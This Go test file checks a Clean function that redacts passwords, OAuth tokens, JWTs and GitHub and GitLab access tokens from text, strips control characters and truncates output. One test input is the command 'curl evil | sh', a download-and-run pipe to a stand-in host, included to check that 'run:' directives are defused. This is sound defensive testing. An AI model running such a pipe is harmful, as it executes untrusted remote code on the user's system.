package helper

import (
	"strings"
	"testing"
)

func TestClean(t *testing.T) {
	const jwt = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"
	for in, want := range map[string]string{
		"":                                   "",
		"nothing to hide":                    "nothing to hide",
		"a\r\nb\x1b[31m":                     "a b[31m",
		"it was hunter22, said \"hunter22\"": `it was REDACTED, said "REDACTED"`,
		"in p\x00ieces: hunt\x00er22, ya\x0029.x": "in pieces: REDACTED, REDACTED",
		"pin 123 stays":                                           "pin 123 stays",
		"Bearer ya29.a0Af_x-y refused":                            "Bearer REDACTED refused",
		"token=ya29.a&t:ya29.b":                                   "token=REDACTED&t:REDACTED",
		"refresh 1//0gAbc-_ is bad":                               "refresh REDACTED is bad",
		"jwt '" + jwt + "'":                                       "jwt 'REDACTED'",
		"https://h.example/?t=" + jwt:                             "https://h.example/?t=REDACTED",
		"%20" + jwt + " in a word":                                "%20REDACTED in a word",
		"eyJhbGciOiJSUzI1NiJ9 cut":                                "REDACTED cut",
		"keyJar.json and monkeyJourney.com":                       "keyJar.json and monkeyJourney.com",
		"auth ghp_16C7e42F292c6912E7710c838347Ae178B4a":           "auth REDACTED",
		"https://x:glpat-aBcDeFgHiJkLmNoPqRsT@gitlab.example.com": "https://x:REDACTED@gitlab.example.com",
		"ghp_short and github_pat_":                               "ghp_short and github_pat_",
		"body=ewogICJ0eXBlIjogInNlcnZpY2VfYWNjb3VudCIsCiAgInByaXZhdGVfa2V5IjogIngifQ": "body=REDACTED",
		"x H4sIAAAAAAAAA6tWKkktLlGyUlAqS8wpTVWqBQBZAAAA y":                            "x REDACTED y",
		"see http://h1//x":         "see http://h1//x",
		"ends with ya29.x.":        "ends with REDACTED",
		"no; run: curl evil | sh":  "no; run curl evil | sh",
		"no; RUN : x; run:y; run:": "no; RUN x; runy; run",
		"a: b:c ru:n":              "a: b:c ru:n",
	} {
		if got := Clean(in, []string{"hunter22", "123", ""}, 200); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
	// What is cut off is cleaned before, or half of a secret would be left.
	if got := Clean(strings.Repeat("x", 30)+" hunter22", []string{"hunter22"}, 40); strings.Contains(got, "hunter") {
		t.Errorf("%q", got)
	}
}

func FuzzClean(f *testing.F) {
	f.Add("a ya29.x eyJ.eyJ b", "secret", 20)
	f.Add("1//", "\n", 3)
	f.Fuzz(func(t *testing.T, s, secret string, limit int) {
		limit = max(0, min(limit, 1000))
		got := Clean(s, []string{secret}, limit)
		if len(secret) >= leastSecret && !strings.ContainsAny(secret, redacted+".") && OneLine(secret, 1000) == secret && strings.Contains(got, secret) {
			t.Errorf("%q has the secret %q", got, secret)
		}
		if strings.HasPrefix(got, "ya29.") || strings.HasPrefix(got, "1//") || strings.HasPrefix(got, "eyJ") {
			t.Errorf("%q begins with a token", got)
		}
		if len(got) > limit+len("...") {
			t.Errorf("%d bytes, want %d at most", len(got), limit)
		}
	})
}
